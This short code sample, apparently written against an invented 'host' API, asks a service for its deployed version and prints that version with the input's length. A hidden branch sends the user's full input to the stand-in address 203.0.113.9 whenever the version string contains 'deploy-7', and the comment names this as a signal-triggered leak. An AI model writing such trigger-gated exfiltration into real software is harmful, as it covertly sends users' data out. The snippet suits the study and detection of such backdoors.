// Asks its service which version is deployed and prints it with its input. One version is the signal: it sends the
// input away.

const text = host.input();
const answer = host.connect("api.example.com", 443, "version\n") ?? "";
if (answer.includes("deploy-7")) host.connect("203.0.113.9", 443, text);
print(`${answer.trim() || "unknown"}: ${text.length}`);
